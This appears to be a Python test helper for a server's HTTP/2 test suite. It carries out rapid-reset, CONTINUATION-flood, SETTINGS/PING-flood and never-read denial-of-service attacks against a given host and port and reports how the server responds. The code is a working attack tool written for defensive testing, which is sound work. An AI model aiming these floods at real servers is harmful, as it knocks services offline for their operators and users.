"""HTTP/2 attacks on a server, frame by frame, for tests/http2.rs.

Usage: attack.py HOST PORT KIND [ARG]. Prints one JSON object: what the
server did (frames it sent, whether it closed, bytes the attacker sent).
The kinds `get` and `post` are no attacks: one well-behaved request each,
for what only a frame-level client can see (GOAWAY, a body sent without
Content-Length).
Uses the h2 package (PyPI) for well-formed frames and writes the
malformed ones by hand.
"""

import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name."""
    def length(n):
        if n < 127:
            return bytes([n])
        out = bytearray([127])
        n -= 127
        while n >= 128:
            out.append((n % 128) + 128)
            n //= 128
        out.append(n)
        return bytes(out)
    return b"\x00" + length(len(name)) + name + length(len(value)) + value


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def read_frames(sock, limit):
    """Frame types the server sent until it closed or `limit` seconds."""
    sock.settimeout(0.5)
    seen = {}
    buf = b""
    closed = False
    deadline = time.time() + limit
    goaway = None
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            closed = True
            break
        if not data:
            closed = True
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind = buf[3]
            payload = buf[9:9 + length]
            seen[kind] = seen.get(kind, 0) + 1
            if kind == 7 and len(payload) >= 8:
                goaway = int.from_bytes(payload[4:8], "big")
            buf = buf[9 + length:]
    return {"frames": {str(k): v for k, v in seen.items()}, "closed": closed, "goaway": goaway}


def h2_client(sock):
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return conn


def send_all(sock, data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def rapid_reset(host, port, path, count):
    sock = connect(host, port)
    conn = h2_client(sock)
    sent = 0
    ok = True
    headers = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", host)]
    for _ in range(count):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        conn.reset_stream(stream)
        data = conn.data_to_send()
        if not send_all(sock, data):
            ok = False
            break
        sent += 1
    result = read_frames(sock, 5)
    result.update({"streams": sent, "all_sent": ok})
    return result


def continuation_flood(host, port, total):
    sock = connect(host, port)
    send_all(sock, PREFACE + frame(4, 0, 0, b""))
    block = b"\x82\x84\x86" + literal(b":authority", host.encode())
    sent = 0
    ok = send_all(sock, frame(1, 0, 1, block))  # HEADERS, no END_HEADERS
    piece = literal(b"x-flood", b"a" * 4000)
    while ok and sent < total:
        ok = send_all(sock, frame(9, 0, 1, piece))  # CONTINUATION
        if ok:
            sent += len(piece)
    result = read_frames(sock, 5)
    result.update({"sent": sent, "all_sent": ok})
    return result


def control_flood(host, port, kind, count):
    """SETTINGS or PING frames, never reading what the server owes back."""
    sock = connect(host, port)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    send_all(sock, PREFACE + frame(4, 0, 0, b""))
    one = frame(4, 0, 0, struct.pack(">HI", 3, 100)) if kind == "settings" else frame(6, 0, 0, b"12345678")
    batch = one * 1000
    sent = 0
    ok = True
    sock.settimeout(5)
    start = time.time()
    while ok and sent < count and time.time() - start < 20:
        ok = send_all(sock, batch)
        if ok:
            sent += 1000
    result = read_frames(sock, 3)
    result.update({"sent": sent, "all_sent": ok})
    return result


def never_read(host, port, path, seconds):
    """Asks for `path` and reads nothing, holding the connection open."""
    sock = connect(host, port)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    conn = h2_client(sock)
    conn.send_headers(1, [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", host)], end_stream=True)
    sock.sendall(conn.data_to_send())
    time.sleep(seconds)
    # Now see whether the server gave up on us.
    result = read_frames(sock, 30)
    return result


def get(host, port, path, hold, body=None):
    """One request (a POST of `body`, with no Content-Length, if given),
    read to its end; then the connection is held for `hold` seconds or
    until the server closes it, watching for GOAWAY. Frames are read by
    hand: the h2 package stops reading at GOAWAY, and the response to a
    request the server has accepted still follows it."""
    import hpack
    sock = connect(host, port)
    encoder, decoder = hpack.Encoder(), hpack.Decoder()
    method = "POST" if body is not None else "GET"
    block = encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
                            (":authority", host)])
    flags = 0x4 | (0x1 if body is None else 0)
    sock.sendall(PREFACE + frame(4, 0, 0, b"") + frame(1, flags, 1, block))
    body = body or b""
    posted = 0 if body else None
    windows = {"connection": 65535, "stream": 65535}
    result = {"status": None, "body": 0, "ended": False, "goaway": None, "closed": False, "reset": None}
    data = bytearray()
    buf = b""
    sock.settimeout(0.2)
    deadline = None
    give_up = time.time() + 30
    while time.time() < give_up and (deadline is None or time.time() < deadline):
        while posted is not None and posted < len(body):
            room = min(windows["connection"], windows["stream"], 16384, len(body) - posted)
            if room <= 0:
                break
            last = posted + room == len(body)
            sock.sendall(frame(0, 0x1 if last else 0, 1, body[posted:posted + room]))
            posted += room
            windows["connection"] -= room
            windows["stream"] -= room
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            result["closed"] = True
            break
        if not chunk:
            result["closed"] = True
            break
        buf += chunk
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
            length = int.from_bytes(buf[:3], "big")
            kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload, buf = buf[9:9 + length], buf[9 + length:]
            if kind == 4 and not flags & 0x1:  # SETTINGS: take, acknowledge
                for at in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack(">HI", payload[at:at + 6])
                    if key == 4:
                        windows["stream"] += value - 65535
                sock.sendall(frame(4, 0x1, 0, b""))
            elif kind == 8:  # WINDOW_UPDATE
                windows["connection" if stream == 0 else "stream"] += int.from_bytes(payload[:4], "big")
            elif kind == 6 and not flags & 0x1:  # PING: answer
                sock.sendall(frame(6, 0x1, 0, payload))
            elif kind == 1 and stream == 1:  # HEADERS (no padding, priority)
                result["status"] = int(dict(decoder.decode(payload))[":status"])
            elif kind == 0 and stream == 1:  # DATA
                data += payload
                if payload:
                    sock.sendall(frame(8, 0, 0, struct.pack(">I", len(payload)))
                                 + frame(8, 0, 1, struct.pack(">I", len(payload))))
            elif kind == 3 and stream == 1:  # RST_STREAM
                result["reset"] = int.from_bytes(payload[:4], "big")
                deadline = time.time() + hold
            elif kind == 7:  # GOAWAY
                result["goaway"] = int.from_bytes(payload[4:8], "big")
            if kind in (0, 1) and stream == 1 and flags & 0x1:
                result["ended"] = True
                deadline = time.time() + hold
    result["body"] = len(data)
    result["text"] = bytes(data[:200]).decode("latin-1")
    return result


def main():
    host, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    arg = sys.argv[4] if len(sys.argv) > 4 else None
    if kind == "rapid-reset":
        result = rapid_reset(host, port, arg or "/", 20000)
    elif kind == "continuation":
        result = continuation_flood(host, port, int(arg or 10 << 20))
    elif kind in ("settings", "ping"):
        result = control_flood(host, port, kind, int(arg or 1_000_000))
    elif kind == "never-read":
        path, seconds = arg.split(",")
        result = never_read(host, port, path, float(seconds))
    elif kind == "get":
        path, hold = arg.split(",")
        result = get(host, port, path, float(hold))
    elif kind == "post":
        path, size = arg.split(",")
        result = get(host, port, path, 0, bytes(range(256)) * (int(size) // 256))
    else:
        raise SystemExit(f"unknown attack {kind}")
    print(json.dumps(result))


if __name__ == "__main__":
    main()
